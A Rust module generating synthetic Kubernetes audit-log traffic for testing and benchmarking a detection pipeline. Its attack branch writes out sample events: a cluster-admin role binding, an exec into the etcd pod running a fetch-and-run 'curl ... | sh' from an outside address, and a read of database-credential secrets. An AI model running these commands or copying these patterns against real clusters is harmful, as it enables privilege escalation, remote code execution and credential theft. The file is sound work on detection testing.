//! A generator of realistic audit traffic: mostly control-plane reads and lease renewals, some humans, CI, and a few attacks.
//!
//! Deterministic for a seed, so demos, tests and benchmarks see the same stream.

use serde_json::{json, Value};

pub mod behaviour;

/// A small, fast, seedable PRNG (splitmix64).
#[derive(Debug, Clone)]
pub struct Rng(u64);

impl Rng {
    pub fn new(seed: u64) -> Self {
        Self(seed)
    }
    pub fn next_u64(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }
    /// Uniform in `0..n`.
    pub fn below(&mut self, n: usize) -> usize {
        (self.next_u64() % n.max(1) as u64) as usize
    }
    pub fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.below(items.len())]
    }
}

/// The kind of traffic an event stands for; lets tests and benchmarks filter.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Traffic {
    /// Control plane, kubelets, controllers: get/list/watch, lease updates, status patches.
    System,
    /// People using kubectl.
    Human,
    /// CI service accounts deploying.
    Ci,
    /// Something the default detections should notice.
    Attack,
}

const NAMESPACES: &[&str] = &[
    "default",
    "kube-system",
    "payments",
    "checkout",
    "monitoring",
    "ingress-nginx",
    "data",
    "ci",
];
const HUMANS: &[&str] = &[
    "alice@example.com",
    "bob@example.com",
    "carol@example.com",
    "dave@example.com",
    "erin@example.com",
];
/// Public addresses with known GeoIP answers (MaxMind's test databases) and private ones.
const HUMAN_IPS: &[&str] = &[
    "81.2.69.142",
    "2.125.160.216",
    "89.160.20.112",
    "216.160.83.56",
    "175.16.199.1",
    "1.128.0.1",
    "12.81.92.1",
    "10.20.0.15",
    "192.168.1.20",
];
const CONTROLLERS: &[&str] = &[
    "system:kube-controller-manager",
    "system:kube-scheduler",
    "system:serviceaccount:kube-system:replicaset-controller",
    "system:serviceaccount:kube-system:deployment-controller",
    "system:serviceaccount:kube-system:endpointslice-controller",
    "system:serviceaccount:kube-system:namespace-controller",
    "system:serviceaccount:kube-system:coredns",
    "system:apiserver",
];
const READ_RESOURCES: &[&str] = &[
    "pods",
    "nodes",
    "endpoints",
    "endpointslices",
    "configmaps",
    "services",
    "deployments",
    "replicasets",
    "leases",
    "namespaces",
    "serviceaccounts",
    "secrets",
];

/// Public addresses for people in the wide population: every known GeoIP test
/// answer but the Tor exit (which stays an attack), plus office and VPN ranges.
const WIDE_HUMAN_IPS: &[&str] = &[
    "2.125.160.216",
    "89.160.20.112",
    "216.160.83.56",
    "175.16.199.1",
    "67.43.156.1",
    "1.128.0.1",
    "12.81.92.1",
    "10.20.0.15",
    "10.20.3.40",
    "192.168.1.20",
    "192.168.7.31",
];
/// People in the wide population.
const WIDE_HUMANS: usize = 300;
/// Team namespaces in the wide population, beside the fixed ones.
const WIDE_NAMESPACES: usize = 40;

/// Makes events one at a time.
#[derive(Debug, Clone)]
pub struct Generator {
    rng: Rng,
    n: u64,
    wide: bool,
}

impl Generator {
    /// The demo stream: five people, eight namespaces.
    pub fn new(seed: u64) -> Self {
        Self {
            rng: Rng::new(seed),
            n: 0,
            wide: false,
        }
    }

    /// The benchmark stream: the same mix over many more principals,
    /// namespaces and source addresses (300 people, 48 namespaces, 160 nodes),
    /// people only from addresses that are not anonymisers, and kubelet
    /// status patches carrying pod status, so that events run from about
    /// 0.5 KB (reads) to 20 KB (CI deployments).
    pub fn wide(seed: u64) -> Self {
        Self {
            wide: true,
            ..Self::new(seed)
        }
    }

    fn namespace(&mut self) -> String {
        if self.wide && self.rng.below(2) == 0 {
            return format!("team-{:02}", self.rng.below(WIDE_NAMESPACES));
        }
        (*self.rng.pick(NAMESPACES)).to_owned()
    }

    /// The next event and its traffic class.
    pub fn next_event(&mut self) -> (Value, Traffic) {
        self.n += 1;
        let roll = self.rng.below(1000);
        let traffic = match roll {
            0..=879 => Traffic::System,
            880..=949 => Traffic::Human,
            950..=989 => Traffic::Ci,
            _ => Traffic::Attack,
        };
        let ev = match traffic {
            Traffic::System => self.system(),
            Traffic::Human => self.human(),
            Traffic::Ci => self.ci(),
            Traffic::Attack => self.attack(),
        };
        (ev, traffic)
    }

    /// `count` events as JSON lines.
    pub fn lines(&mut self, count: usize) -> Vec<String> {
        (0..count)
            .map(|_| self.next_event().0.to_string())
            .collect()
    }

    /// `count` events, decoded as the pipeline decodes them (for benchmarks and tests).
    pub fn events(&mut self, count: usize) -> Vec<crate::event::AuditEvent> {
        self.lines(count)
            .iter()
            .flat_map(|l| crate::event::decode_record(l.as_bytes(), &Default::default()).events)
            .collect()
    }

    fn stamp(&self) -> (String, String) {
        let ms = self.n * 7;
        let (h, m, s, milli) = (
            (ms / 3_600_000) % 24,
            (ms / 60_000) % 60,
            (ms / 1000) % 60,
            ms % 1000,
        );
        let t0 = format!("2026-11-20T{h:02}:{m:02}:{s:02}.{milli:03}000Z");
        let t1 = format!("2026-11-20T{h:02}:{m:02}:{s:02}.{:03}500Z", milli);
        (t0, t1)
    }

    #[allow(clippy::too_many_arguments)]
    fn base(
        &mut self,
        level: &str,
        verb: &str,
        user: Value,
        ip: &str,
        agent: &str,
        object_ref: Value,
        uri: String,
        code: u16,
    ) -> Value {
        let (t0, t1) = self.stamp();
        let id = format!(
            "{:08x}-{:04x}-4{:03x}-8{:03x}-{:012x}",
            self.rng.next_u64() as u32,
            self.rng.below(0xffff),
            self.rng.below(0xfff),
            self.rng.below(0xfff),
            self.rng.next_u64() & 0xffff_ffff_ffff
        );
        json!({
            "kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": level, "auditID": id,
            "stage": "ResponseComplete", "requestURI": uri, "verb": verb, "user": user,
            "sourceIPs": [ip], "userAgent": agent, "objectRef": object_ref,
            "responseStatus": { "metadata": {}, "code": code },
            "requestReceivedTimestamp": t0, "stageTimestamp": t1,
            "annotations": {
                "authorization.k8s.io/decision": if code == 403 { "forbid" } else { "allow" },
                "authorization.k8s.io/reason": "RBAC: allowed by ClusterRoleBinding \"system:controller\" of ClusterRole \"system:controller\" to User"
            }
        })
    }

    fn system(&mut self) -> Value {
        let node = format!(
            "ip-10-0-{}-{}.ec2.internal",
            self.rng.below(4),
            10 + self.rng.below(40)
        );
        if self.wide && self.rng.below(8) == 0 {
            return self.pod_status(&node);
        }
        if self.rng.below(3) == 0 {
            // Kubelet lease renewal: the single most common audit event.
            let user = json!({"username": format!("system:node:{node}"), "groups": ["system:nodes", "system:authenticated"]});
            let uri =
                format!("/apis/coordination.k8s.io/v1/namespaces/kube-node-lease/leases/{node}");
            let oref = json!({"resource": "leases", "namespace": "kube-node-lease", "name": node, "apiGroup": "coordination.k8s.io", "apiVersion": "v1"});
            return self.base(
                "Metadata",
                "update",
                user,
                "10.0.1.12",
                "kubelet/v1.30.2 (linux/amd64) kubernetes/3968350",
                oref,
                uri,
                200,
            );
        }
        let who = *self.rng.pick(CONTROLLERS);
        let verb = *self
            .rng
            .pick(&["get", "list", "watch", "watch", "list", "get"]);
        let res = *self.rng.pick(READ_RESOURCES);
        let ns = self.namespace();
        let ns = ns.as_str();
        let user = json!({"username": who, "uid": format!("uid-{}", self.rng.below(50)), "groups": ["system:serviceaccounts", "system:serviceaccounts:kube-system", "system:authenticated"]});
        let oref = json!({"resource": res, "namespace": ns, "apiVersion": "v1"});
        let uri = format!(
            "/api/v1/namespaces/{ns}/{res}?resourceVersion={}&timeout=7m36s&watch={}",
            self.rng.below(999_999),
            verb == "watch"
        );
        self.base(
            "Metadata",
            verb,
            user,
            "10.0.0.5",
            "kube-controller-manager/v1.30.2 (linux/amd64) kubernetes/3968350/shared-informers",
            oref,
            uri,
            200,
        )
    }

    /// A kubelet patching a pod's status: RequestResponse with the status body (0.5–6 KB).
    fn pod_status(&mut self, node: &str) -> Value {
        let ns = self.namespace();
        let pod = format!("web-{:x}", self.rng.below(0xfffff));
        let user = json!({"username": format!("system:node:{node}"), "groups": ["system:nodes", "system:authenticated"]});
        let oref = json!({"resource": "pods", "subresource": "status", "namespace": ns, "name": pod, "apiVersion": "v1"});
        let uri = format!("/api/v1/namespaces/{ns}/pods/{pod}/status");
        let statuses: Vec<Value> = (0..1 + self.rng.below(12))
            .map(|i| json!({"name": format!("c{i}"), "ready": true, "restartCount": self.rng.below(4),
                "image": format!("registry.example.com/{ns}/app:{}", self.rng.below(90)),
                "imageID": format!("registry.example.com/{ns}/app@sha256:{:016x}{:016x}", self.rng.next_u64(), self.rng.next_u64()),
                "containerID": format!("containerd://{:016x}{:016x}", self.rng.next_u64(), self.rng.next_u64()),
                "state": {"running": {"startedAt": "2026-11-20T08:00:00Z"}}}))
            .collect();
        let mut ev = self.base(
            "RequestResponse",
            "patch",
            user,
            "10.0.1.12",
            "kubelet/v1.30.2 (linux/amd64) kubernetes/3968350",
            oref,
            uri,
            200,
        );
        ev["requestObject"] = json!({"status": {"phase": "Running", "podIP": format!("10.244.{}.{}", self.rng.below(250), self.rng.below(250)),
            "conditions": [{"type": "Ready", "status": "True"}, {"type": "ContainersReady", "status": "True"}],
            "containerStatuses": statuses}});
        ev
    }

    fn human(&mut self) -> Value {
        let named;
        let who = if self.wide {
            named = format!("user-{:03}@example.com", self.rng.below(WIDE_HUMANS));
            named.as_str()
        } else {
            *self.rng.pick(HUMANS)
        };
        let ip = *self
            .rng
            .pick(if self.wide { WIDE_HUMAN_IPS } else { HUMAN_IPS });
        let ns = self.namespace();
        let ns = ns.as_str();
        let user = json!({"username": who, "groups": ["developers", "system:authenticated"], "extra": {"authentication.kubernetes.io/credential-id": ["JTI=5b1c7c52"]}});
        let pod = format!("web-{:x}", self.rng.below(0xfffff));
        match self.rng.below(4) {
            0 => {
                let oref = json!({"resource": "pods", "subresource": "log", "namespace": ns, "name": pod, "apiVersion": "v1"});
                self.base(
                    "Request",
                    "get",
                    user,
                    ip,
                    "kubectl/v1.30.1 (darwin/arm64) kubernetes/7c3a3d2",
                    oref,
                    format!("/api/v1/namespaces/{ns}/pods/{pod}/log?container=app"),
                    200,
                )
            }
            1 => {
                let oref = json!({"resource": "deployments", "namespace": ns, "name": "web", "apiGroup": "apps", "apiVersion": "v1"});
                let mut ev = self.base(
                    "RequestResponse",
                    "patch",
                    user,
                    ip,
                    "kubectl/v1.30.1 (darwin/arm64) kubernetes/7c3a3d2",
                    oref,
                    format!("/apis/apps/v1/namespaces/{ns}/deployments/web"),
                    200,
                );
                ev["requestObject"] = json!({"spec": {"replicas": 1 + self.rng.below(6)}});
                ev
            }
            _ => {
                let oref = json!({"resource": "pods", "namespace": ns, "apiVersion": "v1"});
                self.base(
                    "Metadata",
                    "list",
                    user,
                    ip,
                    "kubectl/v1.30.1 (darwin/arm64) kubernetes/7c3a3d2",
                    oref,
                    format!("/api/v1/namespaces/{ns}/pods?limit=500"),
                    200,
                )
            }
        }
    }

    fn ci(&mut self) -> Value {
        let fixed = *self.rng.pick(&["payments", "checkout", "data"]);
        let ns = if self.wide {
            self.namespace()
        } else {
            fixed.to_owned()
        };
        let ns = ns.as_str();
        let user = json!({"username": "system:serviceaccount:ci:deployer", "groups": ["system:serviceaccounts", "system:serviceaccounts:ci", "system:authenticated"]});
        let oref = json!({"resource": "deployments", "namespace": ns, "name": "api", "apiGroup": "apps", "apiVersion": "v1"});
        let mut ev = self.base(
            "RequestResponse",
            "update",
            user,
            "10.20.4.9",
            "argocd-application-controller/v2.11",
            oref,
            format!("/apis/apps/v1/namespaces/{ns}/deployments/api"),
            200,
        );
        let mut obj = deployment(ns, &mut self.rng);
        if self.wide {
            // `kubectl apply` keeps the whole applied object in an annotation, doubling the size.
            let applied = obj.to_string();
            obj["metadata"]["annotations"] =
                json!({"kubectl.kubernetes.io/last-applied-configuration": applied});
        }
        ev["requestObject"] = obj;
        ev
    }

    fn attack(&mut self) -> Value {
        let who = *self.rng.pick(HUMANS);
        let ip = *self
            .rng
            .pick(&["81.2.69.142", "1.124.213.1", "175.16.199.1"]);
        let user = json!({"username": who, "groups": ["developers", "system:authenticated"]});
        match self.rng.below(3) {
            0 => {
                let name = format!("debug-admin-{}", self.rng.below(1000));
                let oref = json!({"resource": "clusterrolebindings", "name": name, "apiGroup": "rbac.authorization.k8s.io", "apiVersion": "v1"});
                let mut ev = self.base(
                    "RequestResponse",
                    "create",
                    user,
                    ip,
                    "kubectl/v1.30.1 (linux/amd64)",
                    oref,
                    "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings".into(),
                    201,
                );
                ev["requestObject"] = json!({"kind": "ClusterRoleBinding", "apiVersion": "rbac.authorization.k8s.io/v1", "metadata": {"name": name},
                    "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"},
                    "subjects": [{"kind": "User", "apiGroup": "rbac.authorization.k8s.io", "name": who}]});
                ev
            }
            1 => {
                let oref = json!({"resource": "pods", "subresource": "exec", "namespace": "kube-system", "name": "etcd-cp-1", "apiVersion": "v1"});
                self.base("Request", "create", user, ip, "kubectl/v1.30.1 (linux/amd64)", oref,
                    "/api/v1/namespaces/kube-system/pods/etcd-cp-1/exec?command=sh&command=-c&command=curl+http%3A%2F%2F175.16.199.1%2Fx+%7C+sh&container=etcd&stdin=true&stdout=true&tty=true".into(), 101)
            }
            _ => {
                let ns = *self.rng.pick(NAMESPACES);
                let name = format!("db-credentials-{}", self.rng.below(40));
                let oref = json!({"resource": "secrets", "namespace": ns, "name": name, "apiVersion": "v1"});
                self.base(
                    "Metadata",
                    "get",
                    user,
                    ip,
                    "curl/8.5.0",
                    oref,
                    format!("/api/v1/namespaces/{ns}/secrets/{name}"),
                    200,
                )
            }
        }
    }
}

/// A Deployment spec of realistic (and varying) size, 1–20 KB.
fn deployment(ns: &str, rng: &mut Rng) -> Value {
    let containers: Vec<Value> = (0..1 + rng.below(3))
        .map(|i| {
            let env: Vec<Value> = (0..rng.below(40))
                .map(|j| json!({"name": format!("SETTING_{i}_{j}"), "value": format!("value-{}", rng.next_u64())}))
                .collect();
            json!({"name": format!("c{i}"), "image": format!("registry.example.com/{ns}/api:1.{}.{}", rng.below(30), rng.below(9)),
                   "ports": [{"containerPort": 8080, "protocol": "TCP"}], "env": env,
                   "resources": {"limits": {"cpu": "500m", "memory": "512Mi"}, "requests": {"cpu": "100m", "memory": "128Mi"}},
                   "securityContext": {"runAsNonRoot": true, "allowPrivilegeEscalation": false, "capabilities": {"drop": ["ALL"]}}})
        })
        .collect();
    json!({"kind": "Deployment", "apiVersion": "apps/v1",
           "metadata": {"name": "api", "namespace": ns, "labels": {"app": "api", "team": ns}},
           "spec": {"replicas": 3, "selector": {"matchLabels": {"app": "api"}},
                    "template": {"metadata": {"labels": {"app": "api"}}, "spec": {"serviceAccountName": "api", "containers": containers}}}})
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::event::{decode_record, DecodeOptions};

    #[test]
    fn the_stream_is_mostly_system_traffic_and_every_event_decodes() {
        let mut g = Generator::new(7);
        let mut system = 0;
        for _ in 0..2000 {
            let (ev, t) = g.next_event();
            if t == Traffic::System {
                system += 1;
            }
            let d = decode_record(ev.to_string().as_bytes(), &DecodeOptions::default());
            assert_eq!(d.events.len(), 1, "{:?}", d.failures);
        }
        assert!(system > 2000 * 85 / 100, "{system}");
    }

    #[test]
    fn the_same_seed_gives_the_same_stream() {
        assert_eq!(Generator::new(3).lines(50), Generator::new(3).lines(50));
        assert_ne!(Generator::new(3).lines(50), Generator::new(4).lines(50));
    }
}
